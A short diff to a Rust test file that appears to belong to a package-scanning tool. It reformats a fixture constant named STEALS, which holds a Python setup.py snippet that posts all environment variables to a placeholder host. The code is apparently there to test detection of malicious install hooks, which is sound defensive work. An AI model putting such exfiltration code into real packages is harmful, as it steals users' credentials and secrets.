@@ -7,7 +7,8 @@ use serde_json::Value;
 use super::*;
 use crate::cli::tests::shown;
 
-const STEALS: &str = "import os, requests\nrequests.post('https://c.example.invalid', headers={'t': 'SECRET'}, json=dict(os.environ))\n";
+const STEALS: &str =
+    "import os, requests\nrequests.post('https://c.example.invalid', headers={'t': 'SECRET'}, json=dict(os.environ))\n";
 
 /// A tar archive of one setup.py.
 fn archive(folder: &Path, name: &str, setup: &str) {
